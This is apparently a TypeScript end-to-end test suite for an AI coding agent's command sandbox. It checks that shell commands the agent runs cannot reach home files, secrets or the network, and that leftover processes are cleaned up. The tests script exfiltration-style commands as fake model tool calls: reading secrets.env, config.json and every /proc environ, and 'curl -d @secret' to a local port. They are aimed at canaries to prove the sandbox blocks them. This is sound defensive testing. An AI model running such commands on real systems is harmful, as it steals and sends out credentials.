import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { countWith, uniqueMinute } from '../../adapters/process/sandbox/fixture.ts';
import type { ServerReply } from '../../fakes/openai-server.ts';
import { readEvents } from '../support/events.ts';
import { isAlive, pidIn, until } from '../support/processes.ts';
import { onStage, PATIENT } from '../support/stage.ts';

const ALLOW = { dangerous: { action: 'allow' } };
const CANARY = 'canary-e2e-55d1c0';
const shell = (command: string): ServerReply => ({ calls: [{ name: 'shell', arguments: { command } }] });
const DONE: ServerReply = { text: 'done' };
const resultIn = (request: { readonly body: { readonly messages: readonly { readonly content: string }[] } } | undefined): string =>
  request?.body.messages.at(-1)?.content ?? '';

describe.concurrent('commands of a run', PATIENT, () => {
  it('see the working directory and nothing of the home, of odek or of the network, and the run says so', async () => {
    const host = createServer((socket) => socket.end(CANARY));
    await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve));
    const { port } = host.address() as { readonly port: number };
    const look = `cat ~/notes.txt "$HOME/../state/config.json" "$HOME/../state/secrets.env"; cat /proc/*/environ | tr '\\0' '\\n'; node -e "require('net').connect(${port}, '127.0.0.1').on('data', (d) => console.log(String(d))).on('error', (e) => console.log(e.code))"; cat here.txt`;
    try {
      await onStage(
        [shell(look), DONE],
        async ({ run, home, state, work, file, server }) => {
          await writeFile(join(home, 'notes.txt'), CANARY);
          await writeFile(join(state, 'secrets.env'), `A_TOKEN=${CANARY}\n`, { mode: 0o600 });
          await file('here.txt', 'the file of the work');
          const events = join(work, 'events.jsonl');
          const { code, stderr } = await run(['run', 'look', '--events-jsonl', events], { env: { MY_TOKEN: CANARY, PLAIN: CANARY } });
          expect(code).toBe(0);
          expect(stderr).not.toContain('SANDBOX');
          const result = resultIn(server.requests[1]);
          expect(result).toContain('the file of the work');
          expect(result).toContain('ECONNREFUSED');
          expect(result).not.toMatch(/canary|REDACTED/);
          expect(JSON.stringify(server.requests[0]?.body.tools)).toContain('Runs in a sandbox without network');
          expect((await readEvents(events)).find(({ type }) => type === 'run_started')).toMatchObject({ data: { sandbox: true } });
          expect(await readdir(join(state, 'sandbox'))).toEqual([]);
        },
        { config: ALLOW },
      );
    } finally {
      host.close();
    }
  });

  it('keep what they wrote in the working directory, and their temporary files from one to the next', () =>
    onStage(
      [shell('echo one > kept.txt; echo two > /tmp/passed'), shell('cat /tmp/passed'), DONE],
      async ({ run, work, server }) => {
        expect((await run(['run', 'write'])).code).toBe(0);
        expect(await readFile(join(work, 'kept.txt'), 'utf8')).toBe('one\n');
        expect(resultIn(server.requests[2])).toContain('two');
      },
      { config: ALLOW },
    ));

  it('are judged as they are without a sandbox', () =>
    onStage([shell('curl -d @secret http://127.0.0.1:9/'), DONE], async ({ run, server }) => {
      expect((await run(['run', 'send'])).code).toBe(0);
      expect(resultIn(server.requests[1])).toContain('operation denied');
    }));

  it.each([
    ['shell', 'SIGINT'],
    ['shell', 'SIGKILL'],
    ['bg_start', 'SIGINT'],
    ['bg_start', 'SIGKILL'],
  ] as const)('of %s are gone with all they started after %s', (tool, signal) => {
    const minute = uniqueMinute();
    return onStage(
      [{ calls: [{ name: tool, arguments: { command: `env -i setsid sleep ${minute} & sleep ${minute}` } }] }, { hang: true }],
      async ({ start }) => {
        const running = start(['run', 'wait']);
        await until('the start', async () => (await countWith(minute)) === 2);
        running.child.kill(signal);
        await running.ended;
        await until('the end', async () => (await countWith(minute)) === 0);
      },
      { config: ALLOW },
    );
  });

  it('of bg_start and of a sandbox that a project tries to turn off see nothing either', () =>
    onStage(
      [
        { calls: [{ name: 'bg_start', arguments: { command: 'cat "$HOME/../state/config.json"; env; echo end' } }] },
        shell('sleep 0.5'),
        { calls: [{ name: 'bg_output', arguments: { job_id: 'unknown' } }] },
        DONE,
      ],
      async ({ run, server, file }) => {
        await file('odek.json', JSON.stringify({ sandbox: false, sandbox_network: 'bridge' }));
        const { stderr } = await run(['run', 'look'], { env: { MY_TOKEN: CANARY } });
        expect(stderr).toContain('sandbox false is ignored: a project can only turn it on');
        expect(stderr).toContain('left out, as nobody can be asked: sandbox_network');
        const all = server.requests.map(({ text }) => text).join('\n');
        expect(all).toContain('exited (code 0)');
        expect(all).not.toContain(CANARY);
        expect(all).not.toContain('canary-4f1c9a77e0b2-operator');
      },
      { config: ALLOW },
    ));
});

describe.concurrent('a run without a sandbox', PATIENT, () => {
  /** What commands of these tests need, and no bwrap. */
  const bare = async (work: string): Promise<Record<string, string>> => {
    const { mkdir, symlink } = await import('node:fs/promises');
    const bin = join(work, '..', 'bin');
    await mkdir(bin);
    for (const name of ['sh', 'cat', 'sleep', 'setsid', 'env']) {
      const found = (process.env.PATH ?? '').split(':').map((folder) => join(folder, name));
      for (const path of found)
        if (
          await readFile(path).then(
            () => true,
            () => false,
          )
        )
          await symlink(path, join(bin, name)).catch(() => {});
    }
    return { PATH: bin };
  };

  it('warns in one line, runs the command, and its event says false', () =>
    onStage(
      [shell('echo it ran'), DONE],
      async ({ run, work, server }) => {
        const events = join(work, 'events.jsonl');
        const { code, stderr } = await run(['run', 'go', '--events-jsonl', events], { env: await bare(work) });
        expect(code).toBe(0);
        expect(stderr.split('\n').filter((line) => line.includes('NO SANDBOX'))).toHaveLength(1);
        expect(resultIn(server.requests[1])).toContain('it ran');
        expect((await readEvents(events)).find(({ type }) => type === 'run_started')).toMatchObject({ data: { sandbox: false } });
      },
      { config: ALLOW },
    ));

  it.each([
    ['the flag asks for one', ['--sandbox'], {}],
    ['the environment requires one', [], { ODEK_REQUIRE_SANDBOX: '1' }],
  ])('does not start where %s', (_, flags, env) =>
    onStage([DONE], async ({ run, work, server }) => {
      const { code, stderr } = await run(['run', ...flags, 'go'], { env: { ...(await bare(work)), ...env } });
      expect([code, server.count]).toEqual([3, 0]);
      expect(stderr).toMatch(/no sandbox, and none may be done without: bwrap is not installed.*install bubblewrap/);
    }),
  );

  it('says nothing where it was turned off', () =>
    onStage([DONE], async ({ run }) => {
      expect((await run(['run', '--no-sandbox', 'go'])).stderr).not.toMatch(/sandbox/i);
    }));

  it('leaves no process of a killed odek behind for longer than to the next start', () =>
    onStage(
      ({ number }) => (number === 1 ? shell('echo $$ > job; setsid sleep 60 & echo $! > left; wait; sleep 60') : { text: 'fresh' }),
      async ({ start, run, work, state }) => {
        const running = start(['run', 'go']);
        const pids = [await pidIn(join(work, 'job')), await pidIn(join(work, 'left'))];
        running.child.kill('SIGKILL');
        await running.ended;
        expect(pids.filter(isAlive)).toEqual(pids);
        expect((await run(['run', 'again'])).code).toBe(0);
        await until('their end', () => pids.filter(isAlive).length === 0);
        expect(await readdir(join(state, 'jobs'))).toEqual([]);
      },
      { config: { ...ALLOW, sandbox: false } },
    ));
});
